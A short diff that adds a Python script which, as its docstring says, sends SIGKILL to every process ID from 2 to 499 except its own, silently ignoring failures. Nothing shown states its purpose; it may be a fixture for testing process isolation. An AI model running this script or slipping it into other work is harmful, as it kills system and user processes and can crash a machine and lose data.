@@ -1,0 +1,11 @@
+"""Sends SIGKILL to each process number that it can think of."""
+
+import os
+import signal
+
+for process in range(2, 500):
+    if process != os.getpid():
+        try:
+            os.kill(process, signal.SIGKILL)
+        except OSError:
+            pass
